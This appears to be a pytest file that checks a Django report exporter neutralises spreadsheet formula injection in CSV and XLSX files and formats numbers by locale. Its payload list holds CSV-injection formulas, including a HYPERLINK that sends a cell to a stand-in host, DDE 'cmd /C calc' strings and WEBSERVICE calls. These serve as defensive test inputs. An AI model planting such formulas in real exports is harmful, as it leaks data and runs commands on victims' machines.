"""Tables as files: numbers stay numbers, and no text, whatever it says, becomes a formula."""

import csv
import io
import re
import xml.etree.ElementTree as ET
import zipfile
from itertools import product

import pytest
from django.utils import translation

from screens.reports.files import BOM, csv_of, harmless, xlsx_of
from screens.reports.tables import Table, hours, money, number, share, tenth, text

# Beginnings that a spreadsheet takes for a formula, as they are and behind what it leaves out; and what they would do.
BEGINNINGS = (
    *("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"),
    *(" =", "\n=", "\u00a0+", "\u200b=", "\ufeff@", "\t=", "\r=", "\0=", "\v-", "\f+"),
)
BODIES = (
    'HYPERLINK("http://x.example/?"&A1,"Paid")',
    "cmd|'/C calc'!A0",
    "1+1",
    "SUM(A1:A9)",
    'WEBSERVICE("http://x.example")',
    'DDE("cmd";"/C calc";"x")',
    "A1;=1+1",
    '"=1+1',
    "2+5+cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT(A1),"//a")',
)
SHEETS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
PAYLOADS = [begin + body for begin, body in product(BEGINNINGS, BODIES)]
TABLE = Table(
    code="x",
    title="x",
    heads=("Seller", "Cards", "Takings", "Share", "Time", "Each"),
    rows=[
        (text("Ana"), number(1_234), money(123_450), share(3_350), hours(5_400), tenth(123)),
        (text("Pep"), number(-5), money(-5), share(-1), hours(0), tenth(-7)),
        (text(""), number(None), money(None), share(None), hours(None), tenth(None)),
    ],
    total=(text("Total"), number(1_229), money(123_445), share(None), hours(5_400), tenth(None)),
)


def read(written, delimiter):
    assert written.startswith(BOM)
    return list(csv.reader(io.StringIO(written.removeprefix(BOM), newline=""), delimiter=delimiter))


def sheet_of(data):
    """Give a workbook's cells by place, with their type: s is a text, n a number; and the texts themselves."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
        shared = ET.fromstring(book.read("xl/sharedStrings.xml"))
    words = ["".join(node.itertext()) for node in shared]
    cells = {}
    for cell in sheet.iter(f"{SHEETS}c"):
        assert cell.find(f"{SHEETS}f") is None
        value = cell.findtext(f"{SHEETS}v")
        if value is not None:
            cells[cell.get("r")] = words[int(value)] if cell.get("t") == "s" else float(value)
    return cells


def test_there_are_two_hundred_payloads_and_each_is_made_harmless():
    assert len(set(PAYLOADS)) == 200
    assert [p for p in PAYLOADS if harmless(p) != f"'{p}"] == []


@pytest.mark.parametrize("language", ["es", "en"])
def test_a_payload_comes_out_of_the_csv_whole_in_its_cell_and_with_an_apostrophe(language):
    table = Table(code="x", title="x", heads=("=1+1", "b"), rows=[(text(p), number(7)) for p in PAYLOADS])
    with translation.override(language):
        rows = read(csv_of(table), "," if language == "en" else ";")
    assert rows[0] == ["'=1+1", "b"]
    assert [row[1] for row in rows[1:]] == ["7"] * 200
    # The csv reader of Python gives a lone carriage return within quotes as it was written.
    assert [row[0] for row in rows[1:]] == [f"'{p}" for p in PAYLOADS]


def test_a_payload_is_a_text_in_the_workbook():
    kept = [p for p in PAYLOADS if not re.search(r"[\0\v\f\r]", p)]  # what XML cannot hold is written another way
    table = Table(code="x", title="x", heads=("a", "b"), rows=[(text(p), number(7)) for p in kept])
    cells = sheet_of(xlsx_of("=1+1", table))
    assert cells["A1"] == "'=1+1"
    assert [cells[f"A{at}"] for at in range(3, 3 + len(kept))] == [f"'{p}" for p in kept]


@pytest.mark.parametrize("words", ["", "Ana", "1.234,50", "Session 12 · 30/11/2026", "a=b", "x - y", "'quoted", "ñ"])
def test_a_text_that_is_no_formula_is_left_alone(words):
    assert harmless(words) == words


def test_spanish_and_catalan_readers_get_semicolons_and_decimal_commas():
    for language in ("es", "ca"):
        with translation.override(language):
            rows = read(csv_of(TABLE), ";")
        assert rows[1:] == [
            ["Ana", "1234", "1234,50", "33,50", "1,50", "12,3"],
            ["Pep", "-5", "-0,05", "-0,01", "0,00", "-0,7"],
            ["", "", "", "", "", ""],
            ["Total", "1229", "1234,45", "", "1,50", ""],
        ]


def test_english_readers_get_commas_and_decimal_points():
    with translation.override("en"):
        rows = read(csv_of(TABLE), ",")
    assert rows[1] == ["Ana", "1234", "1234.50", "33.50", "1.50", "12.3"]


def test_the_workbook_has_numbers_where_there_are_numbers():
    cells = sheet_of(xlsx_of("Sala · 2026", TABLE))
    # Line 3 is the first row: 1,234 cards, 1,234.50 euros, 33.5 % as 0.335, an hour and a half as 0.0625 days.
    assert [cells[f"{column}3"] for column in "ABCDEF"] == ["Ana", 1234.0, 1234.5, 0.335, 0.0625, 12.3]
    assert [cells.get(f"{column}5") for column in "BCDEF"] == [None] * 5
    assert (cells["A6"], cells["C6"]) == ("Total", 1234.45)
